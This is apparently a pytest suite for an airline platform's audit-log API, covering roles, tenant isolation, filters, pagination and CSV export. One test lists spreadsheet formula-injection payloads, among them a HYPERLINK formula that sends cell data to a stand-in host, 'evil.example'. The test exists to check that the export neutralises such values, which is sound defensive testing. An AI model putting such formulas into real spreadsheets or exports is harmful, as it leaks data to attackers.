"""Audit reads: per case, per entity, the filtered log (cursor-paginated) and the CSV export.
Roles, tenant isolation, filters, pagination, CSV escaping and the row cap."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from asgiref.sync import async_to_sync
from django.test import AsyncClient

from cases.models import Case
from nexa.platform.roles import Role
from nexa.platform.urns import new_urn
from tests.api_base import APIContractTests, RouteContract
from tests.audit.factories import AuditEntryFactory

pytestmark = pytest.mark.django_db

READERS = {Role.ADMIN, Role.OPS_SUPERVISOR, Role.FINANCE_AUDIT}
T0 = datetime(2026, 3, 10, 18, 0, tzinfo=UTC)
SUBCASE = new_urn("subcase")
OPERATOR = "urn:nexa:user:ib-ops"


def at(minutes: int) -> datetime:
    return T0 + timedelta(minutes=minutes)


def make_case(airline: str = "IB", flight_number: str = "IB3170") -> str:
    """A case row to hang audit rows on (the audit routes only read; how cases are declared is
    tested in tests/cases)."""
    case = Case.objects.create(
        airline=airline,
        airport="MAD",
        flight_number=flight_number,
        flight_date=T0.date(),
        scheduled_departure=T0,
        cause="CANCELLATION",
        declared_by=OPERATOR,
        retention_until=(T0 + timedelta(days=90)).date(),
    )
    return case.urn


@pytest.fixture
def case_urn() -> str:
    return make_case()


ROUTES = ["/v1/audit", "/v1/audit/export.csv", "/v1/audit/case/{case}", f"/v1/audit/entity/{SUBCASE}"]


@pytest.fixture
def auditor(client_for):
    return client_for("IB", Role.FINANCE_AUDIT)


def urns_of(response) -> list[str]:
    assert response.status_code == 200, response.content
    return [item["urn"] for item in response.json()["items"]]


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_problem(response, status: int, field: str | None = None):
    assert response.status_code == status, response.content
    assert response["Content-Type"] == "application/problem+json"
    if field is not None:
        assert field in [error["field"] for error in response.json()["errors"]]


# --- roles and tenancy ---------------------------------------------------------------------------


@pytest.mark.parametrize("path", ROUTES)
@pytest.mark.parametrize("role", list(Role))
def test_role_matrix(client_for, case_urn, path, role):
    response = client_for("IB", role).get(path.format(case=case_urn))
    if role in READERS:
        assert response.status_code == 200, response.content
    else:
        assert_problem(response, 403)


@pytest.mark.parametrize("path", ROUTES)
def test_token_required(client, case_urn, path):
    assert_problem(client.get(path.format(case=case_urn)), 401)


def test_another_airlines_rows_are_never_seen(client_for, case_urn):
    mine = AuditEntryFactory(airline="IB", case_urn=case_urn, entity_urn=SUBCASE)
    # The same URNs under another airline (a forged or guessed URN must not reveal anything).
    AuditEntryFactory(airline="LH", case_urn=case_urn, entity_urn=SUBCASE, actor=OPERATOR)
    iberia = client_for("IB", Role.OPS_SUPERVISOR)
    assert urns_of(iberia.get("/v1/audit")) == [mine.urn]
    assert urns_of(iberia.get(f"/v1/audit/case/{case_urn}")) == [mine.urn]
    assert urns_of(iberia.get(f"/v1/audit/entity/{SUBCASE}")) == [mine.urn]
    assert len(csv_rows(iberia.get("/v1/audit/export.csv"))) == 2  # header + mine


def test_another_airlines_case_is_404_like_a_case_that_does_not_exist(client_for):
    lufthansa_case = make_case("LH", "LH1234")
    AuditEntryFactory(airline="LH", case_urn=lufthansa_case)
    iberia = client_for("IB", Role.ADMIN)
    foreign = iberia.get(f"/v1/audit/case/{lufthansa_case}")
    missing = iberia.get(f"/v1/audit/case/{new_urn('case')}")
    assert_problem(foreign, 404)
    assert_problem(missing, 404)
    assert foreign.json()["detail"] == missing.json()["detail"]


# --- item shape ------------------------------------------------------------------------------------


def test_item_shape(auditor, case_urn):
    entry = AuditEntryFactory(
        actor=OPERATOR,
        action="subcase.locked",
        entity_urn=SUBCASE,
        case_urn=case_urn,
        reason="taking over the family",
        before={"lockedBy": None},
        after={"lockedBy": OPERATOR},
        created_at=at(0),
    )
    body = auditor.get(f"/v1/audit/entity/{SUBCASE}").json()
    assert body == {
        "items": [
            {
                "urn": entry.urn,
                "actor": OPERATOR,
                "action": "subcase.locked",
                "entityUrn": SUBCASE,
                "caseUrn": case_urn,
                "reason": "taking over the family",
                "before": {"lockedBy": None},
                "after": {"lockedBy": OPERATOR},
                "correlationUrn": entry.correlation_urn,
                "createdAt": "2026-03-10T18:00:00Z",
            }
        ],
        "nextCursor": None,
        "hasMore": False,
    }


def test_case_trail_holds_the_case_and_its_subcases_newest_first(auditor, case_urn):
    declared = AuditEntryFactory(case_urn=case_urn, entity_urn=case_urn, action="case.declared", created_at=at(0))
    locked = AuditEntryFactory(case_urn=case_urn, entity_urn=SUBCASE, created_at=at(5))
    AuditEntryFactory(created_at=at(6))  # another case
    assert urns_of(auditor.get(f"/v1/audit/case/{case_urn}")) == [locked.urn, declared.urn]


@pytest.mark.parametrize("bad", ["not-a-urn", "urn:nexa:subcase:0190a6a0-0000-7000-8000-000000000001"])
def test_case_route_needs_a_case_urn(auditor, bad):
    assert_problem(auditor.get(f"/v1/audit/case/{bad}"), 400, "case_urn")


def test_entity_route_needs_a_urn(auditor):
    assert_problem(auditor.get("/v1/audit/entity/hello"), 400, "entity_urn")


def test_entity_route_accepts_operator_urns(auditor):
    """Operators are entities too (deactivation is audited) and their URNs come from the identity
    provider verbatim, so any urn: is accepted."""
    operator = "urn:user:auth0|5f7c8ec7c33c6c004bbafe82"
    entry = AuditEntryFactory(entity_urn=operator, action="operator.deactivated")
    assert urns_of(auditor.get(f"/v1/audit/entity/{operator}")) == [entry.urn]


# --- filters ---------------------------------------------------------------------------------------


@pytest.fixture
def log():
    """Five rows a minute apart, two actors, two actions."""
    return [
        AuditEntryFactory(actor=OPERATOR, action="subcase.locked", created_at=at(0)),
        AuditEntryFactory(actor=OPERATOR, action="subcase.unlocked", created_at=at(1)),
        AuditEntryFactory(actor="urn:nexa:system:beat", action="review.escalated", created_at=at(2)),
        AuditEntryFactory(actor=OPERATOR, action="subcase.locked", created_at=at(3)),
        AuditEntryFactory(actor="urn:nexa:system:beat", action="subcase.locked", created_at=at(4)),
    ]


def test_list_is_newest_first(auditor, log):
    assert urns_of(auditor.get("/v1/audit")) == [entry.urn for entry in reversed(log)]


def test_filter_by_actor_and_action(auditor, log):
    assert urns_of(auditor.get("/v1/audit", {"actor": OPERATOR})) == [log[3].urn, log[1].urn, log[0].urn]
    assert urns_of(auditor.get("/v1/audit", {"action": "subcase.locked"})) == [log[4].urn, log[3].urn, log[0].urn]
    both = auditor.get("/v1/audit", {"actor": "urn:nexa:system:beat", "action": "subcase.locked"})
    assert urns_of(both) == [log[4].urn]


def test_time_range_is_half_open(auditor, log):
    response = auditor.get("/v1/audit", {"from": "2026-03-10T18:01:00Z", "to": "2026-03-10T18:03:00Z"})
    assert urns_of(response) == [log[2].urn, log[1].urn]


def test_offsets_and_dates_are_understood(auditor, log):
    # 19:02+01:00 is 18:02Z; a date is its whole UTC day: from its first instant, to after its last.
    assert urns_of(auditor.get("/v1/audit", {"from": "2026-03-10T19:02:00+01:00"})) == [
        log[4].urn,
        log[3].urn,
        log[2].urn,
    ]
    assert urns_of(auditor.get("/v1/audit", {"to": "2026-03-09"})) == []
    assert len(urns_of(auditor.get("/v1/audit", {"from": "2026-03-10", "to": "2026-03-10"}))) == len(log)
    assert urns_of(auditor.get("/v1/audit", {"from": "2026-03-11"})) == []


def test_an_unencoded_plus_in_the_offset_still_parses(auditor, log):
    # "?from=2026-03-10T19:03:00+01:00" typed into a URL: the "+" arrives as a space.
    response = auditor.get("/v1/audit?from=2026-03-10T19:03:00+01:00")
    assert urns_of(response) == [log[4].urn, log[3].urn]


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from": "yesterday"}, "from"),
        ({"to": "2026-13-40"}, "to"),
        ({"from": "2026-03-10T18:00:00Z", "to": "2026-03-09T18:00:00Z"}, "to"),
        ({"actor": ""}, "actor"),
        ({"action": "x" * 101}, "action"),
    ],
)
@pytest.mark.parametrize("path", ["/v1/audit", "/v1/audit/export.csv"])
def test_bad_filters_are_400_naming_the_parameter(auditor, path, params, field):
    assert_problem(auditor.get(path, params), 400, field)


# --- pagination ------------------------------------------------------------------------------------


def test_walk_all_pages_with_the_cursor(auditor, log):
    seen, cursor, pages = [], None, 0
    while True:
        params = (
            {"limit": 2, "actor": OPERATOR} if cursor is None else {"limit": 2, "actor": OPERATOR, "cursor": cursor}
        )
        body = auditor.get("/v1/audit", params).json()
        pages += 1
        seen += [item["urn"] for item in body["items"]]
        if not body["hasMore"]:
            assert body["nextCursor"] is None
            break
        cursor = body["nextCursor"]
    assert pages == 2
    assert seen == [log[3].urn, log[1].urn, log[0].urn]


def test_rows_added_during_a_walk_do_not_shift_it(auditor, log):
    first = auditor.get("/v1/audit", {"limit": 2}).json()
    AuditEntryFactory(created_at=at(10))  # newer than everything
    second = auditor.get("/v1/audit", {"limit": 2, "cursor": first["nextCursor"]}).json()
    assert [item["urn"] for item in second["items"]] == [log[2].urn, log[1].urn]


def test_a_cursor_is_bound_to_its_filters(auditor, log):
    first = auditor.get("/v1/audit", {"limit": 1, "actor": OPERATOR}).json()
    response = auditor.get("/v1/audit", {"limit": 1, "cursor": first["nextCursor"]})
    assert_problem(response, 400, "cursor")


def test_case_trail_paginates(auditor, case_urn):
    entries = [AuditEntryFactory(case_urn=case_urn, created_at=at(i)) for i in range(3)]
    first = auditor.get(f"/v1/audit/case/{case_urn}", {"limit": 2}).json()
    second = auditor.get(f"/v1/audit/case/{case_urn}", {"limit": 2, "cursor": first["nextCursor"]}).json()
    assert [item["urn"] for item in first["items"] + second["items"]] == [e.urn for e in reversed(entries)]
    assert second["hasMore"] is False


@pytest.mark.parametrize("limit", ["0", "201", "many"])
def test_bad_limit_is_400(auditor, limit):
    assert_problem(auditor.get("/v1/audit", {"limit": limit}), 400, "limit")


# --- CSV export ------------------------------------------------------------------------------------


def test_export_is_a_streamed_csv_attachment(auditor, log):
    response = auditor.get("/v1/audit/export.csv")
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="audit-IB-') and disposition.endswith('.csv"')
    rows = csv_rows(response)
    assert rows[0] == [
        "created_at",
        "action",
        "actor",
        "entity_urn",
        "case_urn",
        "reason",
        "correlation_urn",
        "before_json",
        "after_json",
    ]
    assert [row[3] for row in rows[1:]] == [entry.entity_urn for entry in reversed(log)]
    assert rows[1][:3] == ["2026-03-10T18:04:00+00:00", "subcase.locked", "urn:nexa:system:beat"]


def test_export_applies_the_filters(auditor, log):
    rows = csv_rows(auditor.get("/v1/audit/export.csv", {"actor": OPERATOR, "from": "2026-03-10T18:01:00Z"}))
    assert [row[3] for row in rows[1:]] == [log[3].entity_urn, log[1].entity_urn]


def test_export_round_trips_commas_quotes_and_newlines(auditor):
    reason = 'Family of 5, "VIP"\nsecond line\r\nthird; semi'
    AuditEntryFactory(reason=reason, before={"note": 'a,b "c"\nd'}, after={"rooms": 2, "city": "São Paulo"})
    row = csv_rows(auditor.get("/v1/audit/export.csv"))[1]
    assert len(row) == 9
    assert row[5] == reason
    assert row[7] == '{"note": "a,b \\"c\\"\\nd"}'
    assert row[8] == '{"city": "São Paulo", "rooms": 2}'


@pytest.mark.parametrize(
    "dangerous",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"],
)
def test_export_neutralises_formula_injection(auditor, dangerous):
    AuditEntryFactory(reason=dangerous, actor="urn:nexa:user:ib-ops")
    row = csv_rows(auditor.get("/v1/audit/export.csv"))[1]
    assert row[5] == "'" + dangerous
    assert row[2] == "urn:nexa:user:ib-ops"  # harmless cells are untouched


def test_export_walks_batches_without_losing_or_repeating_rows(auditor, monkeypatch):
    monkeypatch.setattr("audit.export.BATCH_SIZE", 3)
    # Ties on created_at across a batch boundary: the id breaks them.
    entries = [AuditEntryFactory(created_at=at(i // 4)) for i in range(10)]
    rows = csv_rows(auditor.get("/v1/audit/export.csv"))[1:]
    assert sorted(row[3] for row in rows) == sorted(entry.entity_urn for entry in entries)
    assert len(rows) == 10
    assert [row[0] for row in rows] == sorted((row[0] for row in rows), reverse=True)


def test_export_over_the_row_cap_is_a_422_asking_to_narrow_the_range(auditor, log, settings):
    settings.NEXA_AUDIT_EXPORT_MAX_ROWS = 4
    response = auditor.get("/v1/audit/export.csv")
    assert_problem(response, 422, "from")
    body = response.json()
    assert body["maxRows"] == 4
    assert "narrow" in body["detail"]
    # Narrowed to the cap: accepted.
    narrowed = auditor.get("/v1/audit/export.csv", {"from": "2026-03-10T18:01:00Z"})
    assert narrowed.status_code == 200
    assert len(csv_rows(narrowed)) == 1 + 4


def test_export_under_asgi_streams_an_async_body(token_for, log):
    """The ASGI path (production) must stream too: an async iterator, read batch by batch."""
    authorization = {"Authorization": f"Bearer {token_for('IB', Role.FINANCE_AUDIT)}"}
    response = async_to_sync(AsyncClient().get)("/v1/audit/export.csv", headers=authorization)
    assert response.status_code == 200, response.content
    assert response.is_async

    async def read():
        return b"".join([chunk async for chunk in response.streaming_content])

    rows = list(csv.reader(io.StringIO(async_to_sync(read)().decode(), newline="")))
    assert [row[3] for row in rows[1:]] == [entry.entity_urn for entry in reversed(log)]


# --- the shared contract base (tests/api_base.py) ------------------------------------------------------

AUDITORS = (Role.FINANCE_AUDIT, Role.OPS_SUPERVISOR)


def _lists_only_own(response, objects) -> bool:
    return [item["urn"] for item in response.json()["items"]] == [objects["entry"].urn]


def _exports_only_own(response, objects) -> bool:
    rows = csv_rows(response)
    return len(rows) == 2 and rows[1][1] == objects["entry"].action  # the header and the caller's airline's row


class TestAuditAPIContract(APIContractTests):
    routes = (
        RouteContract("log", "GET", "/v1/audit", any_of=AUDITORS, check=_lists_only_own),
        RouteContract("export", "GET", "/v1/audit/export.csv", any_of=AUDITORS, check=_exports_only_own),
        RouteContract("case", "GET", "/v1/audit/case/{case}", any_of=AUDITORS, check=_lists_only_own),
        # Any URN is an entity, and another airline's history of it is empty (not a 404): the URN is
        # fixed in the path, so the base's 404/400 tests (for placeholders) do not apply.
        RouteContract("entity", "GET", f"/v1/audit/entity/{SUBCASE}", any_of=AUDITORS, check=_lists_only_own),
    )

    def make_objects(self, airline):
        case_urn = make_case(airline, flight_number=f"{airline}3170")
        entry = AuditEntryFactory(airline=airline, case_urn=case_urn, entity_urn=SUBCASE, action=f"{airline}.did")
        return {"case": case_urn, "entry": entry}
